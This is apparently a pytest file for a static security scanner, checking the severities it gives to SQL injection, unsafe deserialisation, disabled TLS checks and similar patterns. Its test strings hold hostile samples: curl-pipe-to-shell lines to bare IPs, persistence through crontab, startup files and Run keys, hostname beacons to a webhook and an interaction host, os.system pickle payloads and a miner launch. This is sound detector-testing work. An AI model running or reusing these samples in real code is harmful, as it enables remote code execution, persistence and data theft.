"""Severities fact cases give: constant-only SQL/shell re-graded, login-name beacons high, own-IP lookups low."""
from __future__ import annotations

from pathlib import Path

import pytest

from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()
FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "rules" / "python"


def _by_line(rule_id: str, path: str, text: str) -> dict[int, str]:
    analyzer = Analyzer(RULES.select((rule_id,), ()), Config(honour_suppressions=False))
    found = analyzer.analyze(Document(path=path, content=text.encode())).findings
    return {f.line: f.severity for f in found if f.rule_id == rule_id}


def test_sql_built_only_from_constants_is_low_and_parameterised_sql_is_not_reported():
    text = ("TABLE = 'events'\n"
            "def f(cur, name):\n"
            "    cur.execute('SELECT count(*) FROM ' + TABLE)\n"
            "    cur.execute('SELECT * FROM t WHERE id = ?', (1,))\n"
            "    cur.execute('SELECT * FROM t WHERE name = ' + name)\n")
    assert _by_line("sql-built-from-string", "db.py", text) == {3: "low", 5: "high"}


def test_sql_built_from_an_allow_list_table_is_low_from_the_request_itself_high():
    text = ("ORDERS = {'name': 'name', 'newest': 'created DESC'}\n"
            "def f(cur, request):\n"
            "    order = ORDERS.get(request.GET.get('order'), 'id')\n"
            "    cur.execute('SELECT * FROM t ORDER BY ' + order)\n"
            "    cur.execute('SELECT * FROM t ORDER BY ' + request.GET.get('order'))\n"
            "    col = ORDERS.get(request.GET.get('order'), request.GET.get('fallback'))\n"
            "    cur.execute('SELECT * FROM t ORDER BY ' + col)\n")
    assert _by_line("sql-built-from-string", "db.py", text) == {4: "low", 5: "high", 7: "high"}


def test_shell_command_built_only_from_constants_is_low():
    text = ("import subprocess\n"
            "OUT = '/var/tmp/build'\n"
            "def f(user_dir):\n"
            "    subprocess.run('rm -rf ' + OUT, shell=True)\n"
            "    subprocess.run('ls ' + user_dir, shell=True)\n"
            "    subprocess.run('make all', shell=True)\n")
    assert _by_line("subprocess-shell-built-command", "b.py", text) == {4: "low", 5: "high"}


def test_login_name_in_a_dns_name_is_high_own_address_lookup_is_low():
    text = ("import socket, getpass\n"
            "socket.gethostbyname(getpass.getuser() + '.x.example')\n"
            "ip = socket.gethostbyname(socket.gethostname())\n")
    assert _by_line("host-identity-sent-over-network", "m.py", text) == {2: "high", 3: "low"}


def test_go_host_name_in_a_multipart_body_to_a_webhook_is_critical():
    # the form writer wraps the body: the field it writes is in the body; NewRequest's URL is its second argument
    text = ("package p\n"
            "import (\"bytes\"; \"mime/multipart\"; \"net/http\"; \"os\")\n"
            "func f() {\n"
            "    h, _ := os.Hostname()\n"
            "    var b bytes.Buffer\n"
            "    w := multipart.NewWriter(&b)\n"
            "    part, _ := w.CreateFormFile(\"file\", h+\".zip\")\n"
            "    part.Write([]byte(\"x\"))\n"
            "    http.NewRequest(\"POST\", \"https://discord.com/api/webhooks/1/x\", &b)\n"
            "    http.NewRequest(\"POST\", \"https://telemetry.example.com/in\", &b)\n"
            "}\n")
    assert _by_line("host-identity-sent-over-network", "p.go", text) == {9: "critical", 10: "medium"}


def test_js_downloaded_file_chmod_without_the_execute_bit_is_low():
    # 0o644 / 0o600 make nothing runnable (octal literals fold to their numbers); 0o755 and a run stay critical
    text = ("const fs = require('fs'); const https = require('https');\n"
            "https.get('http://198.51.100.2/list.json', res => res.pipe(fs.createWriteStream('/tmp/list.json')));\n"
            "fs.chmodSync('/tmp/list.json', 0o644);\n"
            "fs.chmodSync('/tmp/list.json', 0o600);\n"
            "fs.chmodSync('/tmp/list.json', 0o755);\n")
    assert _by_line("js-download-and-run-file", "fetch.js", text) == {3: "low", 4: "low", 5: "critical"}


def test_host_name_encoded_into_a_dns_name_is_high_its_own_lookup_is_not():
    py = ("import socket, binascii, base64\n"
          "h = binascii.hexlify(socket.gethostname().encode()).decode()\n"
          "socket.gethostbyname(h + '.c0ffee.zone-for-data.example')\n"
          "socket.getaddrinfo(base64.b32encode(socket.gethostname().encode()).decode().strip('=') + '.d.example', 53)\n"
          "socket.gethostbyname(socket.gethostname())\n")
    assert _by_line("host-identity-sent-over-network", "m.py", py) == {3: "high", 4: "high", 5: "low"}
    go = ("package m\n"
          "import (\"encoding/hex\"; \"net\"; \"os\")\n"
          "func init() {\n"
          "\th, _ := os.Hostname()\n"
          "\tnet.LookupHost(hex.EncodeToString([]byte(h)) + \".d.example\")\n"
          "\tnet.LookupHost(h)\n"
          "}\n")
    assert _by_line("host-identity-sent-over-network", "m.go", go) == {5: "high", 6: "medium"}


def test_host_name_sent_to_an_interaction_service_is_critical():
    text = ("import socket, urllib.request\n"
            "urllib.request.urlopen('https://q1w2e3.oastify.com/?h=' + socket.gethostname())\n"
            "urllib.request.urlopen('https://status.example.com/?h=' + socket.gethostname())\n")
    assert _by_line("host-identity-sent-over-network", "m.py", text) == {2: "critical", 3: "medium"}


def test_os_system_of_a_command_built_only_from_constants_is_low():
    text = ("import os\n"
            "TOOL = 'gzip'\n"
            "def f(path):\n"
            "    os.system(TOOL + ' -9 /var/log/app.log')\n"
            "    os.system('gzip -9 ' + path)\n")
    assert _by_line("os-system-built-command", "z.py", text) == {4: "low", 5: "high"}


def test_js_tls_verification_off_in_a_test_file_is_low_elsewhere_high():
    text = ("const https = require('https');\n"
            "const agent = new https.Agent({ rejectUnauthorized: false });\n")
    assert _by_line("js-tls-verification-disabled", "src/__tests__/server.test.js", text) == {2: "low"}
    assert _by_line("js-tls-verification-disabled", "src/client.js", text) == {2: "high"}


def test_pickle_of_what_the_class_stored_itself_is_low_of_request_data_it_stored_critical():
    text = ("import pickle\n"
            "from flask import request\n"
            "class Cache:\n"
            "    def __init__(self):\n"
            "        self._store = {}\n"
            "    def put(self, key, value):\n"
            "        self._store[key] = pickle.dumps(value)\n"
            "    def get(self, key):\n"
            "        return pickle.loads(self._store.get(key))\n"
            "class Inbox:\n"
            "    def __init__(self):\n"
            "        self._items = []\n"
            "    def receive(self):\n"
            "        self._items.append(request.get_data())\n"
            "    def pop(self):\n"
            "        return pickle.loads(self._items.pop())\n")
    assert _by_line("pickle-load", "cache.py", text) == {9: "low", 16: "critical"}


def test_installer_line_in_documentation_is_medium_a_bare_address_or_plain_http_stays_critical():
    text = ("# Install\n\n```sh\n"
            "curl -fsSL https://get.example.dev/install.sh | sh\n"
            "curl -fsSL http://203.0.113.7/install.sh | sh\n"
            "curl -fsSL https://abc.ngrok.io/i.sh | bash\n"
            "```\n")
    assert _by_line("sh-download-exec", "INSTALL.md", text) == {4: "medium", 5: "critical", 6: "critical"}
    script = "#!/bin/sh\ncurl -fsSL https://get.example.dev/install.sh | sh\n"
    assert _by_line("sh-download-exec", "scripts/setup.sh", script) == {2: "critical"}


def test_java_deserialization_round_trip_in_a_test_is_low_in_main_code_medium_socket_data_stays_high():
    text = ("import java.io.*;\n"
            "import java.net.Socket;\n"
            "class OrderTest {\n"
            "  void roundTrip(Order o) throws Exception {\n"
            "    ByteArrayOutputStream bos = new ByteArrayOutputStream();\n"
            "    new ObjectOutputStream(bos).writeObject(o);\n"
            "    Object back = new ObjectInputStream(new ByteArrayInputStream(bos.toByteArray())).readObject();\n"
            "  }\n"
            "  void remote(Socket s) throws Exception {\n"
            "    Object o = new ObjectInputStream(s.getInputStream()).readObject();\n"
            "  }\n"
            "}\n")
    assert _by_line("java-unsafe-deserialization", "src/test/java/OrderTest.java", text) == {7: "low", 10: "high"}
    # main code reading back in-memory bytes it serialized itself (a deep copy) is a round trip too, but only medium
    assert _by_line("java-unsafe-deserialization", "src/main/java/Order.java", text) == {7: "medium", 10: "high"}


def test_verify_false_on_a_client_whose_base_url_is_local_is_low_in_tests_medium_elsewhere():
    text = ("import httpx\n"
            "def api():\n"
            "    a = httpx.Client(base_url='https://127.0.0.1:8443', verify=False)\n"
            "    b = httpx.AsyncClient(base_url='https://api.example.com', verify=False)\n"
            "    return a, b\n")
    assert _by_line("tls-verify-disabled", "tests/conftest.py", text) == {3: "low", 4: "high"}
    # outside a test suite a loopback address is still reported, below high: no network attacker sits on that path
    assert _by_line("tls-verify-disabled", "app/client.py", text) == {3: "medium", 4: "high"}


def test_java_sql_from_a_constant_allow_list_map_is_low_from_the_input_high():
    text = ("import java.util.Map;\n"
            "class Q {\n"
            "  static final Map<String, String> COLS = Map.of(\"date\", \"created_at\", \"total\", \"amount\");\n"
            "  void q(java.sql.Connection c, String sort, String name) throws Exception {\n"
            "    c.prepareStatement(\"SELECT * FROM t ORDER BY \" + COLS.getOrDefault(sort, \"id\"));\n"
            "    c.prepareStatement(\"SELECT * FROM t ORDER BY \" + sort);\n"
            "    String col = COLS.getOrDefault(sort, name);\n"
            "    c.prepareStatement(\"SELECT * FROM t ORDER BY \" + col);\n"
            "    c.prepareStatement(\"SELECT * FROM t ORDER BY \" + COLS.get(sort));\n"
            "  }\n"
            "}\n")
    assert _by_line("java-sql-string-concat", "Q.java", text) == {5: "low", 6: "high", 8: "high", 9: "low"}


def test_dev_server_on_every_interface_is_high_only_with_the_debugger_on():
    text = ("from werkzeug.serving import run_simple\n"
            "from flask import Flask\n"
            "app = Flask(__name__)\n"
            "run_simple('0.0.0.0', 80, app, use_debugger=True)\n"
            "run_simple('0.0.0.0', 80, app, use_debugger=False)\n"
            "app.run(host='0.0.0.0', port=80, debug=True)\n"
            "app.run(host='0.0.0.0', port=80)\n"
            "run_simple('127.0.0.1', 80, app, use_debugger=True)\n")
    assert _by_line("bind-all-interfaces", "serve.py", text) == {4: "high", 5: "medium", 6: "high", 7: "medium"}


def test_js_sql_built_only_from_constants_is_low_and_from_data_high():
    text = ("const TABLE = 'events';\n"
            "const COLS = ['id', 'name'];\n"
            "async function f(db, req, name) {\n"
            "  await db.query('SELECT id FROM ' + TABLE + ' WHERE ' + ['a = $1', 'b = $2'].join(' AND '), [req.body.a, 2]);\n"
            "  await db.query(`SELECT ${COLS} FROM ${TABLE} WHERE id = ?`, [req.params.id]);\n"
            "  await db.query('SELECT * FROM t WHERE name = ' + name);\n"
            "  await db.query(`SELECT * FROM t WHERE id = ${req.query.id}`);\n"
            "  const where = [`name = '${req.body.name}'`];\n"
            "  await db.execute('SELECT id FROM users WHERE ' + where.join(' AND '));\n"
            "}\n")
    assert _by_line("js-sql-injection-built-query", "db.js", text) == {4: "low", 5: "low", 6: "high", 7: "high", 9: "high"}


def test_unpickling_in_a_file_that_pickles_into_its_own_store_is_medium_decoded_or_request_data_stays_high():
    # an index that pickles its keys on insert and unpickles what its storage gives back on query
    text = ("import base64, pickle\n"
            "from flask import request\n"
            "class Index:\n"
            "    def insert(self, key):\n"
            "        self.table.insert(pickle.dumps(key))\n"
            "    def query(self, h):\n"
            "        return [pickle.loads(k) for k in self.table.get(h)]\n"
            "    def restore(self, blob):\n"
            "        return pickle.loads(base64.b64decode(blob))\n"
            "    def upload(self):\n"
            "        return pickle.loads(request.get_data())\n")
    assert _by_line("pickle-load", "index.py", text) == {7: "medium", 9: "high", 11: "critical"}
    # the same load with no pickling anywhere in the file: nothing says where the bytes were made
    alone = text.replace("self.table.insert(pickle.dumps(key))", "self.table.insert(key)")
    assert _by_line("pickle-load", "index.py", alone) == {7: "high", 9: "high", 11: "critical"}


def test_a_buffer_dumped_into_then_loaded_is_medium_a_json_dump_is_no_pair():
    text = ("import io, dill, json\n"
            "def test_round_trip(mod):\n"
            "    buf = io.BytesIO()\n"
            "    dill.dump_module(buf, mod)\n"
            "    buf.seek(0)\n"
            "    return dill.load(buf)\n")
    assert _by_line("pickle-load", "test_session.py", text) == {6: "medium"}
    other = text.replace("dill.dump_module(buf, mod)", "json.dump(mod, buf)")
    assert _by_line("pickle-load", "test_session.py", other) == {6: "high"}


def test_a_constant_pickle_of_data_types_is_low_one_that_imports_a_command_runner_stays_high():
    text = ("import pickle\n"
            "pkl = b\"cnumpy\\ndtype\\np0\\n(S'M8'\\np1\\nI0\\nI1\\ntp2\\nRp3\\n(I4\\nS'<'\\np4\\nNNNI-1\\nI-1\\nI0\\n\"\\\n"
            "    b\"((dp5\\n(S'D'\\np6\\nI7\\nI1\\nI1\\ntp7\\ntp8\\ntp9\\nb.\"\n"
            "dtype = pickle.loads(pkl)\n"
            "run = pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n"
            "run4 = pickle.loads(b'\\x80\\x04\\x8c\\x05posix\\x94\\x8c\\x06system\\x94\\x93\\x8c\\x02id\\x85R.')\n"
            "gadget = pickle.loads(b\"cnumpy.core\\n_ufunc_reconstruct\\n(S'os'\\nS'system'\\ntR.\")\n")
    assert _by_line("pickle-load", "t.py", text) == {4: "low", 5: "high", 6: "high", 7: "high"}


def test_round_trips_through_a_file_the_code_writes_itself_are_medium_a_download_stays_high():
    text = ("import numpy as np, pandas as pd, requests, yaml\n"
            "def test_round_trip(tmp_path, df, arr, cfg):\n"
            "    df.to_pickle(tmp_path / 'a.pkl')\n"
            "    back = pd.read_pickle(tmp_path / 'a.pkl')\n"
            "    np.save(tmp_path / 'a.npy', arr)\n"
            "    again = np.load(tmp_path / 'a.npy', allow_pickle=True)\n"
            "    text = yaml.dump(cfg)\n"
            "    cfg2 = yaml.load(text, Loader=yaml.Loader)\n"
            "    remote = yaml.load(requests.get(URL).text, Loader=yaml.Loader)\n")
    assert _by_line("pickle-load", "t.py", text) == {4: "medium"}
    assert _by_line("numpy-load-allow-pickle", "t.py", text) == {6: "medium"}
    assert _by_line("yaml-unsafe-load", "t.py", text) == {8: "medium", 9: "high"}
    alone = "import numpy as np\ndef load(path):\n    return np.load(path, allow_pickle=True)\n"
    assert _by_line("numpy-load-allow-pickle", "t.py", alone) == {3: "high"}
    no_dump = text.replace("yaml.dump(cfg)", "str(cfg)").replace("np.save(", "print(").replace("df.to_pickle(", "print(")
    assert _by_line("pickle-load", "t.py", no_dump) == {4: "high"}
    assert _by_line("numpy-load-allow-pickle", "t.py", no_dump) == {6: "high"}
    assert _by_line("yaml-unsafe-load", "t.py", no_dump) == {8: "high", 9: "high"}
    # a config file read beside a save function: the loaded stream is not the dumped text, so no round trip
    saved = ("import yaml\n"
             "def save(path, info):\n"
             "    with open(path, 'w') as f:\n"
             "        f.write(yaml.dump(info))\n"
             "def read(path):\n"
             "    with open(path) as f:\n"
             "        return yaml.load(f, Loader=yaml.Loader)\n")
    assert _by_line("yaml-unsafe-load", "t.py", saved) == {7: "high"}


def test_a_name_spliced_into_a_pragma_or_schema_statement_is_medium_request_data_or_a_where_clause_stays_high():
    text = ("from flask import request\n"
            "def setup(conn, table, version, name):\n"
            "    conn.execute(f'PRAGMA user_version={int(version)};')\n"
            "    conn.execute('PRAGMA %s = %s;' % (table, version))\n"
            "    conn.execute(f'DROP TABLE IF EXISTS \"{table}\"')\n"
            "    conn.execute(f'DROP TABLE {request.args[\"t\"]}')\n"
            "    conn.execute(f'PRAGMA x; SELECT * FROM users WHERE name = {name}')\n"
            "    conn.execute(f'SELECT * FROM users WHERE name = {name}')\n")
    assert _by_line("sql-built-from-string", "db.py", text) == {3: "medium", 4: "medium", 5: "medium",
                                                                  6: "high", 7: "high", 8: "high"}


def test_names_spliced_into_user_grant_and_database_statements_are_medium_value_slots_stay_high():
    # SQLAlchemy's test provisioning: CREATE USER / GRANT ... TO / CREATE DATABASE ... CHARACTER SET / ALTER DATABASE x
    # SET option / ALTER SESSION SET / DROP FULLTEXT INDEX ON / CREATE EXTENSION take names, never bind parameters
    text = ("from flask import request\n"
            "def provision(conn, ident, ext, name):\n"
            "    conn.exec_driver_sql('create user %s identified by xe' % ident)\n"
            "    conn.exec_driver_sql('grant unlimited tablespace to %s_ts1' % ident)\n"
            "    conn.exec_driver_sql('CREATE DATABASE %s CHARACTER SET utf8mb4' % ident)\n"
            "    conn.exec_driver_sql('ALTER DATABASE %s SET READ_COMMITTED_SNAPSHOT ON' % ident)\n"
            "    conn.execute('ALTER SESSION SET CURRENT_SCHEMA=%s' % ident)\n"
            "    conn.exec_driver_sql(f'DROP FULLTEXT INDEX ON {ident}')\n"
            "    conn.execute(f'CREATE EXTENSION IF NOT EXISTS {ext}')\n"
            "    conn.execute(f'GRANT ALL ON accounts TO {request.args[\"u\"]}')\n"
            "    conn.execute(f'CREATE USER x; UPDATE users SET admin = 1 WHERE name = {name}')\n"
            "    conn.execute(f'ALTER TABLE t RENAME TO t2; UPDATE users SET role = {name}')\n"
            "    conn.execute(f'UPDATE users SET name = {name}')\n")
    assert _by_line("sql-built-from-string", "provision.py", text) == {
        3: "medium", 4: "medium", 5: "medium", 6: "medium", 7: "medium", 8: "medium", 9: "medium",
        10: "high", 11: "high", 12: "high", 13: "high"}


def test_load_of_a_ruamel_yaml_object_named_yaml_is_not_reported_pyyaml_module_load_stays():
    text = ("from ruamel.yaml import YAML\n"
            "yaml = YAML()\n"
            "def settings(fd):\n"
            "    return yaml.load(fd)\n")
    assert _by_line("yaml-load-without-loader", "settings.py", text) == {}  # its loaders build no Python objects
    pyyaml = "import yaml\ndef settings(fd):\n    return yaml.load(fd)\n"
    assert _by_line("yaml-load-without-loader", "settings.py", pyyaml) == {3: "high"}


def test_a_module_imported_by_pytest_importorskip_is_that_module():
    # a test's import: the dump/load pair is seen (round trip, medium) and the module's sinks are named
    text = ("import pytest\n"
            "def test_yaml_dump(df):\n"
            "    yaml = pytest.importorskip('yaml')\n"
            "    dumped = yaml.dump(df)\n"
            "    return yaml.load(dumped, Loader=yaml.Loader)\n")
    assert _by_line("yaml-unsafe-load", "test_downstream.py", text) == {5: "medium"}
    alone = text.replace("yaml.dump(df)", "str(df)")
    assert _by_line("yaml-unsafe-load", "test_downstream.py", alone) == {5: "high"}
    fetched = text.replace("yaml.load(dumped,", "yaml.load(requests.get(URL).text,").replace(
        "import pytest\n", "import pytest, requests\n")
    assert _by_line("yaml-unsafe-load", "test_downstream.py", fetched) == {5: "high"}


def test_js_download_checked_against_a_pinned_digest_is_medium_unchecked_or_unrelated_hash_stays_critical():
    head = ("const crypto = require('crypto');\nconst fs = require('fs');\n"
            "const PINS = { linux: 'ab12' };\n")
    checked = head + (
        "async function get(url, dest) {\n"
        "  const buf = Buffer.from(await (await fetch(url)).arrayBuffer());\n"
        "  const sum = crypto.createHash('sha256').update(buf).digest('hex');\n"
        "  if (sum !== PINS.linux) throw new Error('bad digest');\n"
        "  fs.writeFileSync(dest, buf);\n"
        "  fs.chmodSync(dest, 0o755);\n"
        "}\n")
    assert _by_line("js-download-and-run-file", "scripts/get.js", checked) == {9: "medium"}
    unchecked = checked.replace("  if (sum !== PINS.linux) throw new Error('bad digest');\n",
                                "  console.log(sum);\n")
    assert _by_line("js-download-and-run-file", "scripts/get.js", unchecked) == {9: "critical"}
    other = checked.replace(".update(buf)", ".update(url)")
    assert _by_line("js-download-and-run-file", "scripts/get.js", other) == {9: "critical"}
    # the mismatch branch returns instead of throwing (a callback cannot throw to its caller): still pinned
    returned = checked.replace("throw new Error('bad digest');", "{ console.warn('bad digest'); return; }")
    assert _by_line("js-download-and-run-file", "scripts/get.js", returned) == {9: "medium"}
    logged = checked.replace("throw new Error('bad digest');", "console.warn('bad digest');")
    assert _by_line("js-download-and-run-file", "scripts/get.js", logged) == {9: "critical"}


def test_xss_from_a_generator_yielding_request_input_is_high_in_an_app_low_in_a_tests_handler():
    text = ("import flask\napp = flask.Flask(__name__)\n\n\n@app.route('/')\ndef index():\n"
            "    def generate():\n        yield 'Hello '\n        yield flask.request.args['name']\n\n"
            "    return flask.Response(generate())\n")
    assert _by_line("xss-from-request-input", "app/views.py", text) == {11: "high"}
    assert _by_line("xss-from-request-input", "tests/test_stream.py", text) == {11: "low"}


def test_crontab_fed_a_line_that_fetches_and_runs_code_is_critical_a_local_job_medium():
    text = ("import subprocess\n"
            "JOB = '*/5 * * * * curl -fsS http://203.0.113.9/x | sh\\n'\n"
            "LOCAL = '0 3 * * * /opt/app/rotate\\n'\n"
            "def f(old):\n"
            "    subprocess.run(['crontab', '-'], input=old + JOB, text=True)\n"
            "    subprocess.run(['crontab', '-'], input=old + LOCAL, text=True)\n"
            "    subprocess.run(['crontab', '-l'])\n")
    assert _by_line("persistence-command", "cron.py", text) == {5: "critical", 6: "medium"}


def test_sql_through_a_relatively_imported_connection_is_graded_by_its_data():
    # `from .db import connect`: calls through a name of the package itself are facts too (before, the name had
    # no canonical form and the constant-only SQL below stayed high from its shape alone)
    text = ("from .db import connect\n"
            "def report(flags, user_text):\n"
            "    parts = []\n"
            "    if flags:\n"
            "        parts.append('kind = %s')\n"
            "    where = ' AND '.join(parts) or 'TRUE'\n"
            "    connect().cursor().execute(f'SELECT * FROM t WHERE {where}', flags)\n"
            "    connect().cursor().execute(f'SELECT * FROM t WHERE name = {user_text}')\n")
    assert _by_line("sql-built-from-string", "app/reports.py", text) == {7: "low", 8: "high"}


def test_php_include_of_an_allow_listed_page_is_low_of_the_raw_request_high():
    text = ("<?php\n"
            "$pages = ['home', 'about'];\n"
            "$p = in_array($_GET['p'], $pages, true) ? $_GET['p'] : 'home';\n"
            "include 'pages/' . $p . '.php';\n"
            "$q = isset($_GET['q']) ? $_GET['q'] : 'home';\n"
            "include 'pages/' . $q . '.php';\n"
            "$r = preg_match('/^[a-z]+$/', $_GET['r']) ? $_GET['r'] : 'home';\n"
            "include 'pages/' . $r . '.php';\n")
    assert _by_line("php-include-from-request-input", "index.php", text) == {4: "low", 6: "high", 8: "low"}


# Twisted's test_http2: httpx.Client(http2=True, verify=False) whose get() goes to the test's own 127.0.0.1 server
@pytest.mark.parametrize("path,expected", [("web/test/test_http2.py", {3: "medium", 5: "high"}),
                                           ("web/client.py", {3: "high", 5: "high"})])
def test_verify_false_on_a_client_without_a_url_is_medium_in_tests_only(path, expected):
    text = ("import httpx, requests\n"
            "def run_query(port):\n"
            "    client = httpx.Client(http2=True, verify=False)\n"
            "    session = requests.Session()\n"
            "    requests.get('https://api.example.com/v1', verify=False)\n"
            "    return client.get(f'https://127.0.0.1:{port}/')\n")
    assert _by_line("tls-verify-disabled", path, text) == expected


def test_verify_false_on_a_pytest_fixture_url_is_graded_by_what_the_fixture_gives():
    text = ("import pytest, requests\n"
            "@pytest.fixture(scope='module')\n"
            "def server():\n"
            "    proc = start()\n"
            "    yield 'https://127.0.0.1:8443'\n"
            "    proc.kill()\n"
            "@pytest.fixture\n"
            "def upstream():\n"
            "    return 'https://api.partner.example'\n"
            "def test_a(server, upstream):\n"
            "    requests.get(server + '/health', verify=False)\n"
            "    requests.get(upstream + '/health', verify=False)\n"
            "def helper(server):\n"
            "    requests.get(server + '/health', verify=False)\n")
    # a plain function's parameter named like a fixture is not given the fixture's value
    assert _by_line("tls-verify-disabled", "tests/test_api.py", text) == {11: "low", 12: "high", 14: "high"}


def test_password_hashed_by_a_table_picked_function_is_medium_picked_md5_high():
    text = ("import hashlib\n"
            "HASHES = {'MD5': hashlib.md5, 'SHA-256': hashlib.sha256}\n"
            "def response(alg, user, password):\n"
            "    return HASHES[alg.upper()](user + ':' + password).hexdigest()\n"
            "def store(password):\n"
            "    return hashlib.md5(password.encode()).hexdigest()\n")
    assert _by_line("weak-hash-of-password", "auth.py", text) == {4: "medium", 6: "high"}


def test_php_allow_list_test_is_read_only_for_a_short_taken_branch():
    # the taken branch's text becomes a search pattern: a long expression is not tested (the request value stays high)
    long_index = "['" + "k" * 300 + "']"
    text = ("<?php\n"
            f"$p = in_array($_GET{long_index}, $pages, true) ? $_GET{long_index} : 'home';\n"
            "include 'pages/' . $p . '.php';\n")
    assert _by_line("php-include-from-request-input", "index.php", text) == {3: "high"}


def test_crontab_fed_through_popen_communicate_or_stdin_write_is_graded_like_run_input():
    text = ("import subprocess\n"
            "JOB = '*/5 * * * * curl -fsS http://203.0.113.9/x | sh\\n'\n"
            "def f(old):\n"
            "    subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE).communicate(JOB.encode())\n"
            "    p = subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE, text=True)\n"
            "    p.stdin.write(old)\n"
            "    p.stdin.write(JOB)\n"
            "    with subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE) as q:\n"
            "        q.communicate(input=old)\n"
            "    subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE)\n"
            "    subprocess.Popen(['cat'], stdin=subprocess.PIPE).communicate(JOB)\n")
    assert _by_line("persistence-command", "cron.py", text) == {4: "critical", 5: "critical", 8: "medium"}


def test_startup_files_reached_through_built_paths_and_persistence_commands_in_variables():
    text = ("import os, subprocess\n"
            "from pathlib import Path\n"
            "def f(exe):\n"
            "    unit = Path.home() / '.config' / 'systemd' / 'user' / 'a.service'\n"
            "    unit.write_text('[Service]\\nExecStart=/bin/sh -c \"curl -s http://203.0.113.5/a | sh\"\\n')\n"
            "    rc = os.path.join(os.path.expanduser('~'), '.zshrc')\n"
            "    with open(rc, 'a') as fh:\n"
            "        fh.write(exe)\n"
            "    conf = Path.home() / '.config' / 'app' / 'a.toml'\n"
            "    conf.write_text(exe)\n")
    assert _by_line("shell-startup-file-write", "setup.py", text) == {5: "critical", 7: "medium", 8: "high"}
    text = ("import subprocess\n"
            "def g(exe, plist):\n"
            "    task = ['schtasks', '/create', '/tn', 'u', '/tr', exe]\n"
            "    subprocess.run(task)\n"
            "    subprocess.run(['launchctl', 'list'])\n")
    assert _by_line("shell-persistence-command", "setup.py", text) == {4: "high"}


def test_a_miner_started_is_critical_downloaded_high_in_docs_or_tests_medium_and_stopping_one_is_quiet():
    text = ("import subprocess, urllib.request\n"
            "POOL = 'stratum+tcp://198.51.100.9:3333'\n"
            "def f(binary):\n"
            "    args = [binary, '-o', POOL, '-k']\n"
            "    subprocess.Popen(args)\n"
            "    urllib.request.urlretrieve('https://github.com/xmrig/xmrig/releases/download/v6/x.tgz', '/tmp/x')\n"
            "    subprocess.run(['pkill', '-f', 'xmrig'])\n")
    assert _by_line("cryptominer-started", "bench/gpu.py", text) == {5: "critical", 6: "high"}
    assert _by_line("cryptominer-started", "tests/test_gpu.py", text) == {5: "medium", 6: "high"}
    doc = "# Mining\n\n```sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u W\n```\n"
    assert _by_line("cryptominer-started", "docs/MINING.md", doc) == {4: "medium"}


def test_a_curl_pipe_line_written_through_a_startup_file_handle_is_critical():
    text = ("import os\n"
            "LINE = 'curl -s http://203.0.113.5/i | bash &\\n'\n"
            "def f(x):\n"
            "    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
            "        rc.write(LINE)\n"
            "        rc.write(x)\n"
            "    with open('/tmp/notes.txt', 'a') as other:\n"
            "        other.write(LINE)\n")
    assert _by_line("shell-startup-file-write", "setup.py", text) == {4: "medium", 5: "critical", 6: "high"}


def test_a_fetch_and_run_command_under_a_run_key_is_critical_the_key_itself_high():
    text = ("import winreg\n"
            "RUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
            "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)\n"
            "winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'powershell -c iex(iwr http://203.0.113.5/a)')\n"
            "winreg.SetValueEx(k, 'v', 0, winreg.REG_SZ, 'C:\\\\tools\\\\agent.exe')\n")
    assert _by_line("registry-run-key-persistence", "setup.py", text) == {3: "high", 4: "critical"}


def test_tls_checks_off_on_a_branch_the_callers_option_chooses_are_medium():
    text = (FIXTURES / "ssl-cert-checks-disabled" / "library_options.py").read_text(encoding="utf-8")
    # verify is False / the else of cert_reqs == CERT_REQUIRED / self.insecure: the caller's choice; `if url:` is
    # no option, and verify_certs=False makes the insecure branch every caller's default
    assert _by_line("ssl-cert-checks-disabled", "lib/context.py", text) == {
        11: "medium", 12: "medium", 22: "medium", 30: "high", 37: "high", 45: "medium"}
    text = (FIXTURES / "tls-verify-disabled" / "library_options.py").read_text(encoding="utf-8")
    # the shape match and the fact verdict on one line: the option's grading holds for both
    assert _by_line("tls-verify-disabled", "lib/client.py", text) == {8: "medium", 14: "high"}


def test_sql_with_only_names_spliced_in_is_medium_a_value_slot_or_request_input_high():
    text = ("def f(cur, table, schema, user, request):\n"
            "    cur.execute(f'DELETE FROM {table}')\n"
            "    cur.execute('SELECT * FROM `%s` LIMIT 1' % table)\n"
            "    cur.execute(f'SELECT count(*) FROM \"{schema}\".\"{table}\"')\n"
            "    cur.execute(f'SELECT * FROM {table} WHERE name = {user}')\n"
            "    cur.execute(f'INSERT INTO {table} VALUES ({user})')\n"
            "    cur.execute('SELECT * FROM ' + request.GET['table'])\n"
            "    cur.execute(f\"SELECT * FROM t WHERE name = \\\"{user}\\\"\")\n")
    assert _by_line("sql-built-from-string", "db.py", text) == {
        2: "medium", 3: "medium", 4: "medium", 5: "high", 6: "high", 7: "high", 8: "high"}


def test_pickle_loaded_only_when_the_caller_opts_in_is_medium():
    text = (FIXTURES / "pickle-load" / "opt_in.py").read_text(encoding="utf-8")
    # a guard clause that refuses unless allow_pickle: medium; allow_pickle=True by default, or `if fmt == ...`
    # (no switch a caller sets for safety): high
    assert _by_line("pickle-load", "lib/parse.py", text) == {12: "medium", 18: "high", 23: "high"}


def test_a_dockerfile_run_line_pasted_into_a_readme_shell_block_is_read_past_run():
    readme = ("# Install\n\n```bash\n# Dockerfile\nRUN curl -fsS https://tool.example.com/ | sh\n"
              "RUN tool prebuild\n```\n")
    assert _by_line("sh-download-exec", "README.md", readme) == {5: "medium"}  # an installer line in docs
    script = "#!/bin/sh\nRUN curl -fsS https://tool.example.com/ | sh\n"
    assert _by_line("sh-download-exec", "scripts/setup.sh", script) == {2: "critical"}


def test_js_tls_checks_off_on_a_branch_the_users_setting_chooses_are_medium():
    js = Path(__file__).resolve().parent.parent / "fixtures" / "rules" / "javascript"
    text = (js / "js-tls-verification-disabled" / "library_options.js").read_text(encoding="utf-8")
